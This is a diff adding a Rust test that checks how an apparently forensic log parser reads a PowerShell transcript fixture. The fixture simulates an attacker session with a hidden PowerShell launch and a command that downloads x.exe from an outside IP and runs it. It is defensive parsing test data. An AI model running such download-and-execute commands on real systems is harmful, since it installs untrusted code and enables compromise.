@@ -115,6 +115,21 @@ fn hashes_and_containers() {
 }
 
 #[test]
+fn transcripts() {
+    let s = fixture("transcript", "session");
+    assert_eq!((s.rows.len(), s.losses()), (4, vec![]), "{:?}", s.end.losses);
+    let (session, first, second) = (process(&s, 0), process(&s, 2), process(&s, 3));
+    assert!(matches!(s.bodies()[1], Body::Text(text) if text.message == "Transcript started, output file is C:\\t.txt"));
+    assert!(session.command.ends_with("powershell.exe -NoP -W Hidden"));
+    assert_eq!((session.pid, session.user.as_deref(), session.host.as_deref()), (Some(4711), Some("WEB01\\admin"), Some("WEB01")));
+    assert_eq!((first.command.as_ref(), first.cwd.as_deref(), first.parent_pid), ("whoami", Some("C:\\Users\\admin"), Some(4711)));
+    assert_eq!((second.name.as_deref(), second.command.as_ref()), (Some("iwr"), "iwr http://203.0.113.9/x.exe -OutFile x.exe; .\\x.exe"));
+    let times = s.times();
+    assert_eq!(times, [Some("2026-11-20T01:00:00Z".to_owned()), None, None, Some("2026-11-20T01:00:05Z".to_owned())]);
+    assert!(s.rows[2].1.ends_with(b"web01\\admin") && s.rows[3].1.ends_with(b"done"));
+}
+
+#[test]
 fn velociraptor() {
     let s = fixture("velociraptor", "pslist");
     assert_eq!((s.rows.len(), s.losses()), (2, vec![(Malformed, 1)]));
